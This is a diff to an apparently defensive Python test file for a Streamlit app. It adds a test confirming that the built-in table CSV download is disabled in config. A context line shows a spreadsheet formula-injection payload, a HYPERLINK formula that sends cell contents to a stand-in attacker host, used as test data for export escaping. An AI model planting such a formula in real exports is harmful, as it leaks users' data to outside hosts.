@@ -319,6 +319,17 @@ def test_scores_export_neutralises_formulas_in_every_text_cell(sqlite_store: Sto
     assert '\'=HYPERLINK("http://evil.example/?x="&A1,"click")' in names
 
 
+def test_tables_on_pages_offer_no_built_in_csv_download() -> None:
+    """Streamlit's own "Download as CSV" on a table wrote the names as typed (=HYPERLINK…),
+    with no audit entry and no session check; ``client.disableDataExport`` (Streamlit's
+    supported switch) removes it from every st.dataframe and st.data_editor."""
+    from streamlit import config as streamlit_config
+
+    assert "client.disableDataExport" in streamlit_config.get_config_options()
+    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
+    assert config["client"]["disableDataExport"] is True
+
+
 @pytest.mark.parametrize("text", HOSTILE)
 def test_markdown_escaping_leaves_no_active_character(text: str) -> None:
     escaped = md_escape(text)
